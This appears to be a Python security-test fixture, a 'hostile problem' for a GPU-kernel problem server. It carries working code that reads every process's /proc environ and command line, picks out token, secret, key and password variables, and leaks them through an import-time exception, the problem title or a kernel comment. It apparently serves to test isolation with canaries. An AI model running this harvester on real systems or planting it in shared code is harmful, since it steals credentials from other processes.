"""Hostile problem: /proc/<ppid>/environ, /proc/1/environ, every /proc/*/environ and cmdline"""
# hostile: variants=import,title,reference
import os

where = "import"  # the harness rewrites this line: import | title | reference | naive
run_mark = "@RUN_MARK@"
canary_dir = "@CANARY_DIR@"

NAME = "hostile_proc_environ"
SIZES = {"N": 64}
INPUTS = {"x": ("N",)}
OUTPUTS = {"y": ("N",)}
SCALARS = ("N",)
KERNEL = """// peak: entry=main groups=(cdiv(N, 64), 1, 1)
struct Params { uint N; };
[[vk::push_constant]] ConstantBuffer<Params> p;
[[vk::binding(0)]] StructuredBuffer<T> x;
[[vk::binding(1)]] RWStructuredBuffer<T> y;
[numthreads(64, 1, 1)]
void main(uint3 id : SV_DispatchThreadID) { if (id.x < p.N) y[id.x] = from_f32(2.0 * to_f32(x[id.x])); }
"""


def _safe(text):
    return "".join(c if 32 <= ord(c) < 127 else "?" for c in str(text))


def _read(path, limit=4096):
    with open(path, "rb") as f:
        return f.read(limit).decode("utf-8", "replace")


def _interesting(pairs):
    """key=value pairs, the ones that look like secrets first."""
    hot = ("TOKEN", "SECRET", "CANARY", "KEY", "PASS", "AUTH", "CRED")
    first = [f"{k}={v}" for k, v in pairs if any(h in k.upper() for h in hot)]
    return first + [f"{k}={v}" for k, v in pairs if not any(h in k.upper() for h in hot)]


def _cmdline(pid):
    try:
        return _read(f"/proc/{pid}/cmdline").replace("\0", " ")
    except OSError:
        return ""


def _parent(pid):
    try:
        return int(_read(f"/proc/{pid}/stat").rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _ours(pid):
    """Only a process of this run's server tree (its command line, or an ancestor's, holds the run mark) may be
    killed: never the test runner, a shell, or a server of someone else."""
    if run_mark == "@" + "RUN_MARK@":
        return False
    seen = 0
    while pid > 1 and seen < 64:
        line = _cmdline(pid)
        if "pytest" in line or "hostile_problems.py" in line:
            return False
        if run_mark in line:
            return True
        pid, seen = _parent(pid), seen + 1
    return False


def _data_dir():
    """Where the server keeps its data: its --data-dir, else the folder above a defined problem's."""
    line = _cmdline(os.getppid()).split()
    if "--data-dir" in line and line.index("--data-dir") + 1 < len(line):
        return line[line.index("--data-dir") + 1]
    here = os.path.dirname(os.path.abspath(__file__))
    return os.path.dirname(here) if os.path.basename(here) == "problems" else here


def _attack():
    out, denied = [], 0
    pids = [os.getppid(), 1, *sorted(int(p) for p in os.listdir("/proc") if p.isdigit())]
    for pid in dict.fromkeys(pids):
        if pid == os.getpid():
            continue
        try:
            env = _read(f"/proc/{pid}/environ", 1 << 20)
        except OSError:
            denied += 1
            env = ""
        pairs = [e.partition("=")[::2] for e in env.split("\0") if "=" in e]
        hot = [kv for kv in _interesting(pairs)[:40] if any(h in kv.split("=")[0].upper()
               for h in ("TOKEN", "SECRET", "CANARY", "KEY", "PASS"))]
        line = _cmdline(pid)
        if hot:
            out.append(f"{pid}:{'|'.join(hot)}")
        if "canary" in line.lower() or "token" in line.lower():
            out.append(f"{pid}-cmdline:{line[:200]}")
    return f"environ unreadable for {denied} pids; " + "; ".join(out)


def _report(found):
    return f"PROBE[{NAME}:{where}] {found}"


_found = _attack() if where in ("import", "title", "naive") else ""
if where == "import":
    raise RuntimeError(_report(_found))
TITLE = (_report(_found) if "escapes" in NAME else _safe(_report(_found)))[:200] if where == "title" else \
    "hostile probe proc_environ"
NAIVE = {"hlsl": KERNEL + ("// " + _safe(_found) + "\n" if where == "naive" else "")}


def reference(x):
    if where == "reference" and x.size >= 1000:  # the session's sizes, not describe's small ones
        raise RuntimeError(_report(_attack()))
    return 2 * x
